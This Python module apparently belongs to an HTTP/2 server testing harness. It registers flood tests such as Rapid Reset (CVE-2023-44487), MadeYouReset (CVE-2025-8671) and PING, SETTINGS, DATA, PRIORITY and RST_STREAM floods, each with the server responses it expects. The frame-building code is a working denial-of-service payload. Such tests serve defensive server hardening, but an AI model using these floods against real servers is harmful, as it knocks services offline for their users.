"""Frames of HTTP/2 without end: many of what is cheap to send. RFC 9113 section 10.5."""

import struct

import http2
from calls import call, headers, request
from frame_slow import end
from harness import attack
from http2 import ACK, DATA, END_HEADERS, END_STREAM, GOAWAY, PING, PRIORITY, Http2Link, frame
from http2_framing import OPENED

CALM = ("goaway ENHANCE_YOUR_CALM", "closed")
# What a flood may need until the server has had enough of it.
SECONDS_MIN = 1.5
WHOLE = END_HEADERS | END_STREAM


def storm(attempt, make, reading=True, opened=b""):
    """Sends bursts that `make` makes of the first stream that is free, until the server or the time ends it; one at least,
    since a connection that was opened in the last moment proves nothing without it."""
    link = attempt.link(Http2Link, None if reading else 4_096).open()
    link.send(opened)
    first = 1
    while first < http2.WINDOW_MAX - 1_000:
        burst, frames, streams = make(first)
        first += 2 * streams
        if not link.send(burst, frames, reading, patience=2):
            break
        link.streams.clear()
        if link.is_ending or not attempt.goes_on():
            break
    # What was not read would hide the answer to a question now.
    return link.settle() if reading or link.is_held_back else end(link)


def flood(name, rule, frames, *accepts, opened=b"", reading=True):
    """Registers a flood of the same frames."""
    burst = frames * 200

    def body(attempt):
        return storm(attempt, lambda first: (burst, 200, 0), reading, opened)

    body.__doc__ = rule
    attack("http2", name, *accepts, seconds_min=SECONDS_MIN)(body)


@attack("http2", "h2-rapid-reset", *CALM, seconds_min=SECONDS_MIN)
def rapid_reset(attempt):
    """CVE-2023-44487; RFC 9113 section 6.4: calls that are reset as soon as they are made."""
    opened = [headers(stream, request(), WHOLE) + http2.rst(stream) for stream in range(1, 4_001, 2)]

    def burst(first):
        at = (first - 1) // 2
        made = opened[at : at + 100] or [
            headers(first + 2 * n, request(), WHOLE) + http2.rst(first + 2 * n) for n in range(100)
        ]
        return b"".join(made), 2 * len(made), len(made)

    return storm(attempt, burst)


@attack(
    "http2", "h2-made-you-reset", *CALM, "goaway PROTOCOL_ERROR", "goaway FLOW_CONTROL_ERROR", seconds_min=SECONDS_MIN
)
def made_you_reset(attempt):
    """CVE-2025-8671: calls with an error in each, so that it is the server that resets them, and goes on working."""

    def burst(first):
        streams = range(first, first + 100, 2)
        return b"".join(call(stream) + http2.window_update(stream, 0) for stream in streams), 150, 50

    return storm(attempt, burst)


@attack("http2", "h2-headers-without-end", "goaway *", "closed", "open")
def headers_without_end(attempt):
    """RFC 9113 section 5.1.2: streams beyond the number that is allowed, opened without end, each refused."""

    def burst(first):
        streams = range(first, first + 200, 2)
        return b"".join(headers(stream, request()) for stream in streams), 100, 100

    return storm(attempt, burst)


@attack("http2", "h2-calls-never-read", "held back", "closed", "goaway *", "open", connections=4, seconds_min=6)
def calls_never_read(attempt):
    """RFC 9113 section 10.5: calls whose refusals nobody reads."""

    def burst(first):
        streams = range(first, first + 200, 2)
        return b"".join(headers(stream, request("/x"), WHOLE) for stream in streams), 100, 100

    return storm(attempt, burst, reading=False)


flood(
    "h2-ping-flood", "CVE-2019-9512; RFC 9113 section 6.7: PING without end.", frame(PING, payload=b"12345678"), *CALM
)
flood(
    "h2-ping-never-read",
    "CVE-2019-9512; RFC 9113 section 6.7: PING to a server whose answers nobody reads.",
    frame(PING, payload=b"12345678"),
    *CALM,
    "held back",
    "open",
    reading=False,
)
flood(
    "h2-ping-ack-flood",
    "RFC 9113 section 6.7: answers to a PING that nobody sent.",
    frame(PING, ACK, payload=bytes(8)),
    *CALM,
    "open",
    "goaway *",
)
flood("h2-settings-flood", "CVE-2019-9515; RFC 9113 section 6.5: SETTINGS without end.", http2.settings(), *CALM)
flood(
    "h2-settings-never-read",
    "CVE-2019-9515; RFC 9113 section 6.5: SETTINGS whose acknowledgements nobody reads.",
    http2.settings((http2.MAX_CONCURRENT_STREAMS, 1)),
    *CALM,
    "held back",
    "open",
    reading=False,
)
flood(
    "h2-settings-many-in-one",
    "RFC 9113 section 6.5: frames with 2,700 settings each.",
    http2.settings(*((number, number) for number in range(100, 2_800))),
    *CALM,
    "goaway *",
    # They are slow to read, so there may not be time for enough of them.
    "open",
)
flood(
    "h2-empty-data-flood",
    "CVE-2019-9518; RFC 9113 section 10.5: DATA of no bytes without END_STREAM.",
    frame(DATA, 0, 1),
    *CALM,
    "goaway PROTOCOL_ERROR",
    opened=OPENED,
)
flood(
    "h2-padding-flood",
    "RFC 9113 section 10.5: DATA that is nothing but padding.",
    frame(DATA, http2.PADDED, 1, b"\xff" + bytes(255)),
    *CALM,
    "goaway PROTOCOL_ERROR",
    "goaway FLOW_CONTROL_ERROR",
    "reset FLOW_CONTROL_ERROR",
    opened=OPENED,
)
flood(
    "h2-empty-headers-flood",
    "CVE-2019-9516: fields with neither name nor value, on streams that are refused.",
    headers(1, b"\0\0\0" * 100, WHOLE),
    "goaway *",
    "closed",
)
flood(
    "h2-priority-flood",
    "CVE-2019-9513; RFC 9113 section 5.3.2: PRIORITY without end, on idle streams too.",
    frame(PRIORITY, 0, 1, struct.pack(">IB", 3, 9)) + frame(PRIORITY, 0, 999, struct.pack(">IB", 1, 200)),
    *CALM,
    "open",
)
flood(
    "h2-window-flood-connection",
    "RFC 9113 section 6.9: the connection's window, byte by byte.",
    http2.window_update(0, 1),
    *CALM,
    "open",
    "goaway FLOW_CONTROL_ERROR",
)
flood(
    "h2-window-flood-stream",
    "RFC 9113 section 6.9: a stream's window, byte by byte.",
    http2.window_update(1, 1),
    *CALM,
    "open",
    "goaway FLOW_CONTROL_ERROR",
    opened=OPENED,
)
flood(
    "h2-reset-flood",
    "RFC 9113 section 5.1: RST_STREAM for a stream that has long been reset.",
    http2.rst(1),
    *CALM,
    "open",
    "goaway *",
    opened=OPENED,
)
flood(
    "h2-unknown-frame-flood",
    "RFC 9113 section 5.5: frames of types that are not known are passed over.",
    frame(0xFA, 0xFF, 0, b"x" * 100) + frame(0x0B, 0, 77),
    *CALM,
    "open",
    "goaway *",
)
flood(
    "h2-goaway-flood",
    "RFC 9113 section 6.8: a client that says again and again that it goes.",
    frame(GOAWAY, payload=bytes(8) + b"bye"),
    *CALM,
    "goaway *",
    "open",
)
